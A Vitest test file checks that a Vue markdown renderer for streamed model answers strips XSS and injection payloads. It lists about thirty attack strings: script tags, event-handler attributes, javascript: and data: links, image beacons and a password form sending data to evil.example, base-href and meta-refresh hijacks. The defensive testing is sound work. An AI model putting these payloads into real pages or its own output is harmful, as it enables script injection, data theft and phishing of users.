import { mount } from '@vue/test-utils'
import { createI18n } from 'vue-i18n'
import { describe, expect, it } from 'vitest'
import answer from '@/i18n/en/answer.json'
import StreamMarkdown from './StreamMarkdown.vue'

const i18n = createI18n({ legacy: false, locale: 'en', messages: { en: { answer } } })

function rendered(text: string, streaming = false): HTMLElement {
  const options = { props: { text, streaming }, global: { plugins: [i18n] } }
  return mount(StreamMarkdown, options).element as HTMLElement
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![steal](https://evil.example/?q=secret)',
  '![steal](//evil.example/a.png)',
  '![steal](/\\evil.example/a.png)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<div style="position:fixed;inset:0">log in</div>',
  '<details open ontoggle=alert(1)>',
  '::script{src=x}',
  '[x]{onclick=alert(1)}',
  '[x](https://a.example "onmouseover=alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[r]\n\n[r]: javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '# <svg onload=alert(1)>',
]
const FORBIDDEN = 'script,iframe,object,embed,base,meta,style,form,input,svg,link'

describe('text of a model', () => {
  it.each(ATTACKS)('is harmless: %s', (attack) => {
    for (const streaming of [true, false]) {
      const element = rendered(attack, streaming)
      expect(element.querySelector(FORBIDDEN)).toBeNull()
      for (const one of element.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
          expect(name).not.toMatch(/^on/)
          if (name === 'src') expect(value).toMatch(/^\/(?![/\\])/)
          if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|\/|#)/i)
        }
      }
    }
  })

  it('leads outside without telling where from', () => {
    const link = rendered('See https://a.example/b').querySelector('a')
    expect(link?.getAttribute('rel')).toContain('noopener noreferrer nofollow')
    expect(link?.getAttribute('target')).toBe('_blank')
  })

  it('has an outline that continues that of the page', () => {
    const headings = rendered('## First\n\n### Second\n\n# Third').querySelectorAll('h3,h4')
    expect([...headings].map(({ tagName }) => tagName)).toEqual(['H3', 'H4', 'H3'])
  })
})
